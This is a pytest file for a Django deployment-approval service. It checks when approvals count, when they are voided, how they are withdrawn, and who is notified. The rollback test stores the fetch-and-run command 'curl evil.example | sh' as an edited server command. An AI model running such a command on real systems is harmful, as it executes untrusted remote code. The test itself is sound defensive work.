"""What still counts between a yes and the start, who counts where, and what voids it."""

from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from deployments.models import Account, Approval, Deployment, Notice, Project, ServerCommand
from deployments.pipeline.gate import may_start as may_run
from deployments.services import approvals
from deployments.services.deployments import go_back, request_deployment
from tests import factories
from tests.factories import actor_for, make_user


@pytest.fixture
def mia(shop):
    return make_user("mia", shop, "approve", email="mia@shop.example")


@pytest.fixture
def asked(releaser, production, approval_rule, release):
    """The releaser asked for 2.8.1; production needs the approver's yes."""
    return request_deployment(
        actor_for(releaser), production, release=release, request_key="click")


def yes(user, row, **over):
    approvals.approve(actor_for(user), row, plan_hash=row.plan_hash, **over)
    row.refresh_from_db()
    return row


def status_of(row):
    row.refresh_from_db()
    return row.status


def test_every_rule_must_pass_and_one_yes_is_one_person(
        releaser, production, approval_rule, approver, mia, release):
    """The approver is named by both rules, and fills one; the second needs somebody else."""
    factories.make_rule(production, approver, mia)
    row = request_deployment(actor_for(releaser), production, release=release, request_key="two")
    assert yes(approver, row).status == "awaiting_approval"
    found = approvals.tally(row)
    assert [[user.username for user in share.people] for share in found.shares] == [
        ["approver"], []]
    assert yes(mia, row).status == "queued"


def test_a_group_names_its_people(releaser, production, mia, release):
    """Whoever is in it when they agree, and when it starts."""
    group = Group.objects.create(name="Shop leads")
    mia.groups.add(group)
    factories.make_rule(production).groups.add(group)
    row = request_deployment(actor_for(releaser), production, release=release, request_key="group")
    assert yes(mia, row).status == "queued"
    mia.groups.clear()
    approvals.reevaluate(user=mia)
    assert status_of(row) == "voided"
    assert row.result == ("Not started: mia is named by no rule any more, so that yes no longer "
                          "counts. Ask for it again.")


@pytest.mark.parametrize(("lose", "why"), [
    (lambda user: type(user).objects.filter(pk=user.pk).update(is_active=False),
     "has an account that is switched off"),
    (lambda user: user.grants.filter(action="approve").update(
        valid_until=timezone.now() - timedelta(minutes=1)), "may not approve here any more"),
    (lambda user: Account.objects.create(
        user=user, approvals_void_until=timezone.now() + timedelta(hours=1)),
     "had the password or second step set anew"),
    (lambda user: Project.objects.update(commands_edited_by=user),
     "edited the project's commands last"),
])
def test_a_yes_is_lost_with_the_right_to_give_it(asked, approver, audited, lose, why):
    """Where all had agreed the request ends, and says whose yes and why."""
    yes(approver, asked)
    lose(approver)
    approvals.reevaluate(user=approver)
    assert status_of(asked) == "voided"
    assert asked.result == (
        f"Not started: approver {why}, so that yes no longer counts. Ask for it again.")
    assert audited()[-2:] == [("approval.voided", "done"), ("deployment.voided", "done")]


def test_a_lost_yes_does_not_come_back(asked, approver, mia):
    """Where others are still waited for the yes alone is void, for good: a row more says so."""
    rule = asked.environment.approval_rules.get()
    rule.users.add(mia)
    rule.people_needed = 2
    rule.save()
    yes(approver, asked)
    for is_active in (False, True):
        type(approver).objects.filter(pk=approver.pk).update(is_active=is_active)
        approvals.reevaluate(user=approver)
    assert status_of(asked) == "awaiting_approval"
    assert list(asked.approvals.values_list("answer", flat=True)) == ["yes", "void"]
    assert approvals.tally(asked).missing == 2
    approver.refresh_from_db()
    assert approvals.waiting_for(actor_for(approver)) == [asked]
    yes(approver, asked)
    assert yes(mia, asked).status == "queued"


@pytest.mark.parametrize(("is_agreed", "ends"), [(False, "cancelled"), (True, "voided")])
def test_who_asked_must_still_be_allowed(asked, approver, releaser, is_agreed, ends):
    """An entry that ended takes the request with it."""
    if is_agreed:
        yes(approver, asked)
    releaser.grants.filter(action="release").delete()
    approvals.reevaluate(user=releaser)
    assert status_of(asked) == ends
    assert asked.result.startswith("Not started: releaser may no longer do this.")


def test_the_worker_looks_again_right_before_the_start(asked, approver):
    """Nobody called reevaluate: the gate does not trust that somebody did."""
    yes(approver, asked)
    assert may_run(asked)
    approver.is_active = False
    approver.save()
    assert not may_run(asked)
    assert status_of(asked) == "voided"


def test_looking_again_only_reads_where_all_is_well(asked, approver):
    """A second message for a running deployment looks too, and has claimed nothing."""
    yes(approver, asked)
    with CaptureQueriesContext(connection) as queries:
        assert may_run(asked)
    assert all(query["sql"].startswith("SELECT") for query in queries)


def test_what_began_meanwhile_is_not_ended(asked, approver):
    """The row counts, not what somebody had read: it runs."""
    yes(approver, asked)
    type(approver).objects.filter(pk=approver.pk).update(is_active=False)
    Deployment.objects.filter(pk=asked.pk).update(status="running")
    assert not approvals.void_if_void(asked)
    assert status_of(asked) == "running"


@pytest.mark.parametrize("agreed_to", [None, "queued", "approved"])
def test_edited_commands_void_it_and_are_named(asked, approver, shop, agreed_to):
    """Before and after the yes, and while it waits to be started."""
    if agreed_to:
        assert yes(approver, asked, starts_by_hand=agreed_to == "approved").status == agreed_to
    ServerCommand.objects.create(project=shop, moment="before", command="rm -rf cache")
    approvals.reevaluate(project=shop)
    assert status_of(asked) == "voided"
    assert "(commands before the switch)" in asked.result


def test_a_rule_less_voids_what_waits_and_starts_nothing(asked, approval_rule, queued):
    """Nobody said yes: taking the rule away is no yes either."""
    approval_rule.delete()
    approvals.reevaluate(environment=asked.environment)
    assert status_of(asked) == "voided"
    assert "Who must agree to it changed" in asked.result
    assert queued() == []


def test_a_rule_more_voids_what_was_agreed_to(asked, approver, mia):
    """What is asked for now was not asked then."""
    yes(approver, asked)
    factories.make_rule(asked.environment, mia)
    approvals.reevaluate(environment=asked.environment)
    assert status_of(asked) == "voided"
    assert "the rules ask for 1 more" in asked.result


def test_what_is_as_it_was_is_left_alone(asked, approver, audited):
    """Looking again is no change."""
    yes(approver, asked)
    kept, rows = audited(), list(Deployment.objects.values())
    approvals.reevaluate()
    assert (audited(), list(Deployment.objects.values())) == (kept, rows)


def test_one_who_wants_it_started_by_hand_is_heard(asked, approver, releaser, queued):
    """It waits for a person, who is told."""
    type(releaser).objects.update(email="anna@shop.example")
    assert yes(approver, asked, starts_by_hand=True).status == "approved"
    assert [task for task, _ in queued() if "run_deployment" in task] == []
    assert Notice.objects.filter(event="approval.given").count() == 1
    approvals.start(actor_for(releaser), asked)
    assert status_of(asked) == "queued"


def test_only_who_may_release_starts_it(asked, approver, refusal):
    """The approver's yes is no right to release."""
    yes(approver, asked, starts_by_hand=True)
    with refusal("deployment.start_requested", "You may not release"):
        approvals.start(actor_for(approver), asked)


def test_what_does_not_wait_is_not_started(asked, releaser, refusal):
    """Nobody has agreed yet."""
    with refusal("deployment.start_requested", "does not wait to be started"):
        approvals.start(actor_for(releaser), asked)


@pytest.mark.parametrize(("is_by_hand", "was", "becomes"), [
    (True, "approved", "awaiting_approval"), (False, "queued", "voided")])
def test_a_yes_can_be_taken_back_until_it_starts(
        asked, approver, audited, is_by_hand, was, becomes):
    """A row more: the yes stays on the record."""
    assert yes(approver, asked, starts_by_hand=is_by_hand).status == was
    approvals.withdraw(actor_for(approver), asked, comment="Wrong version")
    assert status_of(asked) == becomes
    assert list(asked.approvals.values_list("answer", flat=True)) == ["yes", "withdrawn"]
    assert ("approval.withdrawn", "done") in audited()
    if becomes == "awaiting_approval":
        assert yes(approver, asked).status == "queued"


def test_others_suffice_where_one_takes_it_back(asked, approver, mia):
    """Two said yes to a rule of one; it goes on with the one who stays."""
    asked.environment.approval_rules.get().users.add(mia)
    Deployment.objects.update(status="awaiting_approval")
    for user in (approver, mia):
        Approval.objects.create(deployment=asked, user=user, user_name=user.username,
                                answer="yes", plan_hash=asked.plan_hash)
    Deployment.objects.update(status="queued")
    assert [user.username for user in approvals.tally(asked).idle] == ["mia"]
    approvals.withdraw(actor_for(approver), asked)
    assert status_of(asked) == "queued"


@pytest.mark.parametrize(("is_given", "status", "reason"), [
    (False, "awaiting_approval", "You have not said yes"),
    (True, "running", "too late to take a yes back")])
def test_what_was_not_given_or_has_begun_is_not_taken_back(
        asked, approver, refusal, is_given, status, reason):
    """The row counts, not what the page had loaded."""
    if is_given:
        yes(approver, asked)
    Deployment.objects.update(status=status)
    with refusal("approval.withdrawn", reason):
        approvals.withdraw(actor_for(approver), asked)


def test_a_yes_needs_a_fresh_sign_in(asked, approver, refusal):
    """A session somebody left open approves nothing."""
    from deployments.policy import Actor
    with refusal("deployment.approved", "needs a sign-in of the last"):
        approvals.approve(Actor(user=approver), asked, plan_hash=asked.plan_hash)


def test_who_edited_the_commands_last_cannot_answer(asked, approver, refusal):
    """Whoever wrote what is run does not agree to it as well."""
    Project.objects.update(commands_edited_by=approver)
    asked.environment.project.refresh_from_db()
    with refusal("deployment.approved", "You edited the project's commands last"):
        yes(approver, asked)


def test_a_return_is_spared_where_the_rule_says_so(
        releaser, production, approval_rule, lives, shop):
    """Only to what was live, with the commands it ran with: edited ones nobody has seen there."""
    approval_rule.spares_going_back = True
    approval_rule.save()
    lives("2.7.0", days=2)
    lives("2.8.0", days=1)
    row = go_back(actor_for(releaser), production, request_key="back")
    assert row.status == "queued"
    Deployment.objects.filter(pk=row.pk).update(status="cancelled")
    ServerCommand.objects.create(project=shop, moment="after", command="curl evil.example | sh")
    row = go_back(actor_for(releaser), production, request_key="again")
    assert row.status == "awaiting_approval"


def test_everybody_who_could_approve_is_told(asked, mia, approver, releaser, release, production):
    """By mail, with the page to answer on; not who asked, nor who may not."""
    Deployment.objects.update(status="cancelled")
    asked.environment.approval_rules.get().users.add(mia, releaser)
    row = request_deployment(actor_for(releaser), production, release=release, request_key="two",
                             reason="VAT fix")
    notice = Notice.objects.get(event="approval.asked")
    assert (notice.address, notice.deployment) == ("mia@shop.example", row)
    assert "Why: “VAT fix”" in notice.text
    assert f"/admin/approvals/{row.pk}/" in notice.text
    assert timedelta(hours=23) < row.approval_until - timezone.now() <= timedelta(hours=24)
